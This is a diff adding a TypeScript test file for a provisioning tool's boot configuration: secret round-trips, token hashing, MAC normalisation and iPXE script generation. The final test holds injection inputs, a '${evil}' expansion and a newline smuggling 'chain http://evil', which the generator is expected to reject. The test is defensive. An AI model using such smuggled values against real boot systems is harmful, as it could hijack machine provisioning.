@@ -1,0 +1,54 @@
+import { fromSecret, macDashed, newToken, normalizeMac, sha256Hex, toSecret, tokenMatches, type BootConfig } from './boot-config.js';
+import { installScript, localBootScript } from './ipxe.js';
+
+describe('boot config', () => {
+  const config: BootConfig = {
+    mode: 'install',
+    hostName: 'node-01',
+    hostNamespace: 'lab',
+    hostUID: 'uid-1',
+    mac: '52:54:00:AB:CD:01',
+    ipxe: '#!ipxe\nboot\n',
+    install: {
+      installationId: 'id-1',
+      revision: 2,
+      attempt: 1,
+      token: 'tok',
+      tokenSha256: sha256Hex('tok'),
+      userData: '#cloud-config\nautoinstall:\n  version: 1\n',
+      metaData: 'instance-id: x\n',
+      kernel: { url: 'http://b/k', sha256: 'a'.repeat(64) },
+      initrd: { url: 'http://b/i', sha256: 'b'.repeat(64) },
+    },
+  };
+
+  it('round-trips through a labelled Secret', () => {
+    const secret = toSecret(config, 'lab');
+    expect(secret.metadata.labels).toEqual({ 'anvil.dev/boot-config': 'true', 'anvil.dev/host': 'node-01', 'anvil.dev/mac': '52-54-00-ab-cd-01' });
+    expect(fromSecret(secret)).toEqual({ ...config, mac: '52:54:00:ab:cd:01' });
+    expect(fromSecret({ metadata: {}, data: {} })).toBeUndefined();
+  });
+
+  it('checks tokens by hash', () => {
+    const t = newToken();
+    expect(tokenMatches(t, sha256Hex(t))).toBe(true);
+    expect(tokenMatches(`${t}x`, sha256Hex(t))).toBe(false);
+    expect(tokenMatches(t, 'short')).toBe(false);
+  });
+
+  it('normalizes MACs', () => {
+    expect(normalizeMac('52-54-00-AB-cd-01')).toBe('52:54:00:ab:cd:01');
+    expect(macDashed('52:54:00:AB:CD:01')).toBe('52-54-00-ab-cd-01');
+  });
+
+  it('writes iPXE scripts that cannot be broken by their inputs', () => {
+    const base = { hostRef: 'lab/node-01', revision: 1, attempt: 2, kernelURL: 'http://b/k', initrdURL: 'http://b/i' };
+    const s = installScript({ ...base, kernelArgs: 'autoinstall ds=nocloud-net;s=http://b/s/' });
+    expect(s.startsWith('#!ipxe\n')).toBe(true);
+    expect(s).toContain('kernel http://b/k initrd=initrd autoinstall ds=nocloud-net;s=http://b/s/\n');
+    expect(() => installScript({ ...base, kernelArgs: 'x=${evil}' })).toThrow(/kernel args must not contain "\$\{"/);
+    expect(() => installScript({ ...base, kernelArgs: 'a\nchain http://evil' })).toThrow(/line breaks/);
+    expect(localBootScript('lab/n', 'UEFI', 'provisioned')).toMatch(/\nexit\n$/);
+    expect(localBootScript('lab/n', 'legacy', 'provisioned')).toContain('sanboot --no-describe --drive 0x80');
+  });
+});
